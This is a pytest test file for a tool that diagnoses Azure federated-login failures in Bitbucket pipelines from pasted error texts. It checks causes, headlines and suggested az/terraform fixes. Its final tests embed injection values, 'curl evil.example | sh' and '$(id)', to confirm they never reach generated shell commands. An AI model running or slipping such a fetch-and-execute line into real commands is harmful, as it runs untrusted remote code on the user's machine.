"""Causes of Azure that a text proves by itself: `azure-application-not-found` and its like.

`azure-application-disabled`, `azure-tenant-not-found`, `azure-cloud-mismatch`, `azure-request-malformed`,
`azure-token-mistaken`, `azure-issuer-unreachable`, `azure-signing-key-unknown`,
`azure-tenant-policy-refused`, `azure-role-missing`, `azure-subscription-not-found`, `azure-cli-too-old`,
`azure-token-given-twice`, `azure-credential-not-created`; and `token-expired` at Azure.
"""

from __future__ import annotations

import pytest

from knowledge.casefile import CaseFile
from knowledge.engine import diagnose
from knowledge.finding import Finding, Verdict
from knowledge.redact import redact
from knowledge.rules import (
    azure_application_not_found,
    azure_issuer_unreachable,
    azure_tenant_not_found,
    azure_tenant_policy_refused,
    azure_token_given_twice,
    azure_token_mistaken,
)
from knowledge.symptoms import recognise
from tests.knowledge.rules.asking import ask, case_of
from tests.knowledge.rules.azure_texts import GOOD, IDS, ISSUER, LOGIN, NO_RECORD, REPOSITORY, USE, refused
from tests.knowledge.rules.scripts import one

CLIENT, TENANT = "11112222-3333-4444-8555-666677778888", "99990000-aaaa-4bbb-8ccc-ddddeeeeffff"
DENIED = (
    f"(AuthorizationFailed) The client '{CLIENT}' with object id '22223333-3333-4444-8555-666677778888' "
    "does not "
    "have authorization to perform action 'Microsoft.Authorization/roleAssignments/write' over scope "
    "'/subscriptions/3333' or the scope is invalid."
)
TEXTS = {
    "application": refused(
        700016, f"Application with identifier '{CLIENT}' was not found in the directory 'Acme'."
    ),
    "principal": refused(
        7000229, "The client application 'x' is missing service principal in the tenant 'y'."
    ),
    "disabled": refused(7000112, "Application 'x' (deploy) is disabled."),
    "tenant": refused(90002, f"Tenant '{TENANT}' not found."),
    "tenant-form": refused(
        900023, "Specified tenant identifier 'acme' is neither a valid DNS name, nor a domain."
    ),
    "tenant-az": "ERROR: Failed to resolve tenant 'acme'.",
    "cloud": refused(900382, "Confidential Client is not supported in Cross Cloud request."),
    "scope": refused(500011, "The resource principal was not found."),
    "parameter": refused(900144, "The request body must contain the following parameter: 'scope'."),
    "flow": refused(50013, "Assertion isn't within its valid time range."),
    "malformed": refused(50027, "JWT token is invalid or malformed."),
    "own": refused(700222, "AAD-issued tokens may not be used for federated identity flows."),
    "entra": refused(7002137, f"{NO_RECORD} subject '/eid1/c/pub/t/x'."),
    "fetch": refused(50166, "Request to External OIDC endpoint failed."),
    "key": refused(7000272, "The certificate with identifier k1 could not be found."),
    "access": refused(53003, "Access has been blocked by Conditional Access policies."),
    "federation": refused(700223, "Workload identity federation is constrained."),
    "role": DENIED,
    "no-subscription": f"ERROR: No subscriptions found for {CLIENT}.",
    "subscription": "ERROR: Subscription 'Acme' not found. Check the ID or name and try again.",
    "old": "UnrecognizedArgumentError: unrecognized arguments: --federated-token eyJ",
    "old-module": "A parameter cannot be found that matches parameter name 'FederatedToken'.",
    "twice": "mismatch between supplied OIDC token and supplied OIDC token file contents",
    "certificate": refused(700027, "Client assertion contains an invalid signature."),
    "secret": refused(7000215, "Invalid client secret provided."),
    "audiences": "ERROR: (BadRequest) Federated identity credentials must have exactly one audience.",
    "exists": "Issuer and subject combination already exists for this Managed Identity.",
    "at-once": (
        "Concurrent Federated Identity Credentials writes under the same managed identity are not supported."
    ),
    "region": "(MethodNotAllowed) Support for federated identity credentials not enabled.",
    "half": "Federated Identity Credential from HTTP body has empty properties",
    "none": refused(70025, "Client application has no configured federated identity credentials."),
}


def alone(paste: str) -> CaseFile:
    text = redact(paste).text
    return CaseFile(symptoms=recognise(text), paste=text)


def told(name: str) -> Finding:
    """What leads when nothing but the text was read."""
    lead = diagnose(alone(TEXTS[name])).lead
    assert lead is not None, name
    return lead


@pytest.mark.parametrize(
    ("name", "cause", "words"),
    [
        ("application", "azure-application-not-found", CLIENT),
        ("principal", "azure-application-not-found", "service principal"),
        ("disabled", "azure-application-disabled", "switched off"),
        ("tenant", "azure-tenant-not-found", TENANT),
        ("tenant-form", "azure-tenant-not-found", "`acme`"),
        ("tenant-az", "azure-tenant-not-found", "`acme`"),
        ("cloud", "azure-cloud-mismatch", "clouds"),
        ("scope", "azure-request-malformed", "scope"),
        ("parameter", "azure-request-malformed", "parameter"),
        ("malformed", "azure-token-mistaken", "no JWT"),
        ("own", "azure-token-mistaken", "Microsoft itself"),
        ("entra", "azure-token-mistaken", "Microsoft itself"),
        ("fetch", "azure-issuer-unreachable", "keys"),
        ("key", "azure-signing-key-unknown", "key"),
        ("access", "azure-tenant-policy-refused", "conditional access"),
        ("federation", "azure-tenant-policy-refused", "federation"),
        ("role", "azure-role-missing", "roleAssignments/write"),
        ("no-subscription", "azure-role-missing", "no role in any subscription"),
        ("subscription", "azure-subscription-not-found", "`Acme`"),
        ("old", "azure-cli-too-old", "too old"),
        ("old-module", "azure-cli-too-old", "Az.Accounts"),
        ("twice", "azure-token-given-twice", "ARM_OIDC_TOKEN"),
        ("certificate", "azure-secret-in-use", "certificate"),
        ("secret", "azure-secret-in-use", "client secret"),
        ("none", "azure-credential-missing", "no federated credential"),
        ("audiences", "azure-credential-not-created", "exactly one audience"),
        ("exists", "azure-credential-not-created", "issuer and subject already"),
        ("at-once", "azure-credential-not-created", "at the same time"),
        ("region", "azure-credential-not-created", "region"),
        ("half", "azure-credential-not-created", "empty"),
    ],
)
def test_the_text_alone_proves_it(name: str, cause: str, words: str) -> None:
    lead = told(name)

    assert (lead.cause, lead.verdict) == (cause, Verdict.CONFIRMED)
    assert words in lead.headline
    assert lead.primary is not None
    assert lead.primary.excerpt


@pytest.mark.parametrize("name", ["audiences", "exists", "at-once", "region", "half"])
def test_who_makes_a_credential_for_bitbucket_s_issuer_is_told_that_no_step_s_subject_stays(
    name: str,
) -> None:
    plain = told(name)
    with_issuer = diagnose(alone(f"{TEXTS[name]}\nissuer = {ISSUER}")).findings[0]

    assert "new in each run" not in plain.meaning
    assert "new in each run" in with_issuer.meaning


def test_another_flow_is_inferred_from_its_code() -> None:
    assert (told("flow").cause, told("flow").verdict) == ("azure-request-malformed", Verdict.LIKELY)


@pytest.mark.parametrize("name", ["role", "no-subscription", "subscription"])
def test_after_a_login_that_worked_nothing_of_the_login_is_mended(name: str) -> None:
    findings = diagnose(alone(TEXTS[name])).findings

    assert [item.cause for item in findings if "subject" in item.cause or "oidc" in item.cause] == []


def test_the_role_is_assigned_to_the_object_and_at_the_scope_of_the_text() -> None:
    by_az, by_terraform = told("role").fixes

    assert '--assignee-object-id "22223333-3333-4444-8555-666677778888"' in by_az.commands[0]
    assert '--scope "/subscriptions/3333"' in by_az.commands[0]
    assert "Contributor does not include" in by_az.steps[1]
    assert any('scope                = "/subscriptions/3333"' in line for line in by_terraform.commands)


@pytest.mark.parametrize(
    ("tenant", "expected"),
    [
        (TENANT, "has the right form"),
        (TENANT[:-1], "this has 35"),
        ("$AZURE_TENANT_ID", "a variable's name"),
        ("acme.onmicrosoft.com", "A domain works only"),
    ],
)
def test_the_form_of_the_tenant_says_what_is_wrong_with_it(tenant: str, expected: str) -> None:
    (finding,) = azure_tenant_not_found.RULE.check(
        alone(refused(90002, f"Tenant '{tenant}' not found.")), None
    )

    assert expected in finding.meaning


@pytest.mark.parametrize("printed", ["$AZURE_TENANT_ID", "***"])
def test_a_tenant_that_the_log_hides_is_not_judged_by_its_form(printed: str) -> None:
    levels = IDS.replace("AZURE_TENANT_ID: b", "AZURE_TENANT_ID: {secured: true}")
    text = refused(90002, f"Tenant '{printed}' not found.")
    (finding,) = ask(azure_tenant_not_found.RULE, case_of(GOOD, levels, text))

    assert finding.headline == "The login names a tenant that Azure does not know."
    assert "The value itself has to be compared." in finding.meaning


def test_a_tenant_s_name_between_single_quotes_is_told_as_that() -> None:
    quoted = one(LOGIN.replace('"$AZURE_TENANT_ID"', "'$AZURE_TENANT_ID'"), USE)
    text = refused(90002, "Tenant '$AZURE_TENANT_ID' not found.")
    (finding,) = ask(azure_tenant_not_found.RULE, case_of(quoted, IDS, text))

    assert "That is a variable's name: between single quotes" in finding.meaning


def test_the_option_and_the_variable_of_the_tenant_are_quoted() -> None:
    (finding,) = ask(azure_tenant_not_found.RULE, case_of(GOOD, IDS, TEXTS["tenant"]))
    said = [item.sentence for item in finding.evidence]

    assert any('`"$AZURE_TENANT_ID"`' in sentence for sentence in said)
    assert "`AZURE_TENANT_ID` is set in the repository variables." in said


def test_a_client_id_between_single_quotes_is_told_by_its_line() -> None:
    quoted = one(LOGIN.replace('"$AZURE_CLIENT_ID"', "'$AZURE_CLIENT_ID'"), USE)
    (finding,) = ask(azure_application_not_found.RULE, case_of(quoted, IDS, TEXTS["application"]))

    assert any("single quotes put in no value" in item.sentence for item in finding.evidence)


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("'$BITBUCKET_STEP_OIDC_TOKEN'", True),
        ('"$OTHER"', True),
        ("BITBUCKET_STEP_OIDC_TOKEN", True),
        ('"$BITBUCKET_STEP_OIDC_TOKEN"', False),
        ("${BITBUCKET_STEP_OIDC_TOKEN}", False),
    ],
)
def test_a_line_that_sends_something_else_is_quoted(written: str, expected: bool) -> None:
    text = one(LOGIN.replace('"$BITBUCKET_STEP_OIDC_TOKEN"', written), USE)
    (finding,) = ask(azure_token_mistaken.RULE, case_of(text, IDS, TEXTS["malformed"]))

    assert any("as the token" in item.sentence for item in finding.evidence) is expected


def test_the_issuer_of_the_repository_s_workspace_is_the_one_to_ask() -> None:
    (finding,) = ask(azure_issuer_unreachable.RULE, case_of(GOOD, IDS, TEXTS["fetch"], repository=REPOSITORY))

    assert finding.fixes[0].commands[0] == f"curl -sf {ISSUER}/.well-known/openid-configuration"


def test_a_self_hosted_runner_is_named_where_an_address_is_blocked() -> None:
    own = one(LOGIN, USE, keys="oidc: true\nruns-on: [self.hosted, linux]")
    (blocked,) = ask(azure_tenant_policy_refused.RULE, case_of(own, IDS, TEXTS["access"]))
    (federation,) = ask(azure_tenant_policy_refused.RULE, case_of(own, IDS, TEXTS["federation"]))

    assert any("self-hosted" in item.sentence for item in blocked.evidence)
    assert len(federation.evidence) == 1


def test_both_places_of_two_tokens_are_quoted() -> None:
    text = one('export ARM_OIDC_TOKEN="$BITBUCKET_STEP_OIDC_TOKEN"', "terraform plan")
    levels = "{workspace: {}, repository: {ARM_OIDC_TOKEN_FILE_PATH: /tmp/t}, deployments: {}}"
    (finding,) = ask(azure_token_given_twice.RULE, case_of(text, levels, TEXTS["twice"]))

    assert ["ARM_OIDC_TOKEN" in item.sentence for item in finding.evidence[1:]] == [True, True]


def expired(now: str, begins: str, ends: str) -> str:
    return refused(
        700024,
        f"Client assertion is not within its valid time range. Current time: {now}, assertion valid from "
        f"{begins}, expiry time of assertion {ends}.",
    )


@pytest.mark.parametrize(
    ("times", "headline", "meaning"),
    [
        (
            ("2026-11-20T10:20:30.1234567Z", "2026-11-20T08:00:00.0000000Z", "2026-11-20T09:00:00.0000000Z"),
            "80 minutes after its end",
            "same token again",
        ),
        (
            ("2026-11-22T10:20:30.1234567Z", "2026-11-20T08:00:00.0000000Z", "2026-11-20T09:00:00.0000000Z"),
            "49 hours after its end",
            "artifact, a cache or a file",
        ),
        (
            ("2026-11-20T07:00:00.0000000Z", "2026-11-20T08:00:00.0000000Z", "2026-11-20T09:00:00.0000000Z"),
            "before its time had begun",
            "clocks",
        ),
        (("now", "then-ish", "2026-13-20T09:00:00Z"), "outside its time.", "cannot be renewed"),
    ],
)
def test_the_three_times_say_how_late_the_token_was(
    times: tuple[str, str, str], headline: str, meaning: str
) -> None:
    lead = diagnose(alone(expired(*times))).lead

    assert lead is not None
    assert (lead.cause, lead.verdict) == ("token-expired", Verdict.CONFIRMED)
    assert headline in lead.headline
    assert meaning in lead.meaning
    assert "AWS" not in lead.meaning


def test_azure_s_texts_are_no_matter_of_another_cloud() -> None:
    for paste in TEXTS.values():
        findings = diagnose(alone(paste)).findings
        assert [
            item.cause for item in findings if item.cause.startswith(("aws", "gcp", "trust", "role"))
        ] == []


ODD = 'x"; curl evil.example | sh; "'


@pytest.mark.parametrize(
    "paste",
    [
        refused(700016, f"Application with identifier '{ODD}' was not found in the directory 'Acme'."),
        DENIED.replace("22223333-3333-4444-8555-666677778888", ODD).replace("/subscriptions/3333", ODD),
        refused(700213, f"{NO_RECORD} subject '{ODD}'."),
        refused(700211, f"{NO_RECORD} issuer 'https://{ODD}'."),
        refused(700211, f"{NO_RECORD} issuer '$(id)'."),
    ],
)
def test_nothing_of_a_text_gets_into_a_command_that_a_shell_would_run(paste: str) -> None:
    findings = diagnose(alone(paste)).findings
    commands = [line for finding in findings for fix in finding.fixes for line in fix.commands]

    assert findings
    assert [line for line in commands if "evil.example" in line or "$(id)" in line] == []


def test_the_sentence_behind_the_code_is_quoted_without_the_ids_that_end_it() -> None:
    primary = told("disabled").primary

    assert primary is not None
    assert primary.excerpt == "AADSTS7000112: Application 'x' (deploy) is disabled."
